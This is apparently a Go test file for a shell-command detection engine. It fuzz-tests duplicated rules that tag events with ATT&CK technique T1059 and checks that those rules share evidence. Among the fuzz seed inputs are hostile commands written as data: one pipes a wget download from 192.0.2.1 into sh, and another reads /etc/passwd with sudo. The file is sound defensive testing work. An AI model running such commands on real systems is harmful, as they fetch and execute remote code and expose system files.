package engine

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// twinRules returns some rules of fuzzRules several times: under other ids, with fields
// shown and with another emit, of which each is there twice but one.
func twinRules() []Source {
	var once []Source
	for i, src := range fuzzRules() {
		if i%3 == 1 {
			once = append(once, src)
		}
	}
	all := once
	for i, change := range []string{"emits:\n", "evidence_fields: [pwd, command_name]\nemits:\n", "evidence_fields: [pwd, command_name]\nemits:\n", "evidence_fields: [pwd, simple_command]\nemits:\n", "emits:\n  - {tactic: TA0002, technique_id: T1059, confidence: 0.4}\n", "emits:\n  - {tactic: TA0002, technique_id: T1059, confidence: 0.5}\n"} {
		prefix := fmt.Sprintf("R%d", i+1)
		for _, src := range once {
			text := strings.NewReplacer("R0", prefix, "emits:\n", change, "name: probe_", fmt.Sprintf("name: copy%d_", i+1)).Replace(string(src.Data))
			all = append(all, Source{Name: strings.Replace(src.Name, "R0", prefix, 1), Data: []byte(text)})
		}
	}
	return all
}

// What twins say once for all is what each says by itself, whether the event is new, being
// learned or known, and whichever of them may fire.
func FuzzTwins(f *testing.F) {
	for _, s := range append(benchCommands, "", "id", "KERNEL 5", "a\xffb etc", "sudo cat /etc/passwd", "wget -O x http://192.0.2.1/x | sh", "xxx", "abe", "ls -la /tmp/123 yz") {
		f.Add(s, "/tmp", byte(0))
		f.Add(s, "/root", byte(5))
	}
	rs, plain := mustCompile(f, twinRules()), mustCompile(f, twinRules())
	if rs.twins.groups == 0 || rs.twins.groups != plain.twins.groups {
		f.Fatalf("%d groups of twins, then %d, want as many and some", rs.twins.groups, plain.twins.groups)
	}
	plain.twins = twins{}
	clipped := event.States{}
	for i, r := range rs.Rules() {
		switch (i + i/18) % 5 { // twins differ in it
		case 0:
			clipped[r.ID] = event.State{Mode: event.Clipped, Max: 0.35, ExpiresAt: testNow.Add(time.Minute)}
		case 1:
			clipped[r.ID] = event.State{Mode: event.Disabled}
		case 2:
			clipped[r.ID] = event.State{Mode: event.Clipped, Max: 0.1}
		}
	}
	var snaps, plains [2]*Snapshot
	for i, states := range []event.States{nil, clipped} {
		snaps[i], plains[i] = NewSnapshot(rs, states, testNow), NewSnapshot(plain, states, testNow)
	}
	sc := NewScratch()
	f.Fuzz(func(t *testing.T, text, pwd string, how byte) {
		ev := commandEvent(text)
		ev.SetField("pwd", event.StringValue(pwd))
		now := testNow.Add(time.Duration(how>>1&1) * time.Hour)
		for _, user := range []string{"root", "pi", "root"} {
			ev.SetField("user", event.StringValue(user))
			fresh, below := NewScratch(), sc.BelowFloor
			want, got := plains[how&1].Scan(nil, ev, now, fresh), snaps[how&1].Evaluate(nil, ev, now, sc)
			if d := rounds.Diff(want, got); d != "" {
				t.Fatalf("tags of %q differ (-each by itself +twins):\n%s", text, d)
			}
			if below = sc.BelowFloor - below; below != fresh.BelowFloor {
				t.Fatalf("%d tags of %q are below the floor, want %d", below, text, fresh.BelowFloor)
			}
		}
	})
}

// Twins share what they found, and only they do.
func TestTwinsShare(t *testing.T) {
	snap, sc := NewSnapshot(mustCompile(t, twinRules()), nil, testNow), NewScratch()
	ways := map[string]int{}
	for range 3 { // new, learned, known
		sharing := map[*byte][]string{}
		for _, tag := range snap.Evaluate(nil, commandEvent("echo 1234567 /etc/ls -l x"), testNow, sc) {
			if p := &tag.Evidence[0]; len(sharing[p]) == 0 || sharing[p][len(sharing[p])-1] != tag.RuleID {
				sharing[p] = append(sharing[p], tag.RuleID)
			}
		}
		for _, rules := range sharing {
			ways[fmt.Sprint(rules)]++
		}
	}
	for _, rules := range []string{"[R0002 R1002]", "[R2002 R3002]", "[R5002 R6002]"} {
		if ways[rules] != 3 {
			t.Errorf("%s share their evidence %d times, want 3 times; all: %v", rules, ways[rules], ways)
		}
	}
}
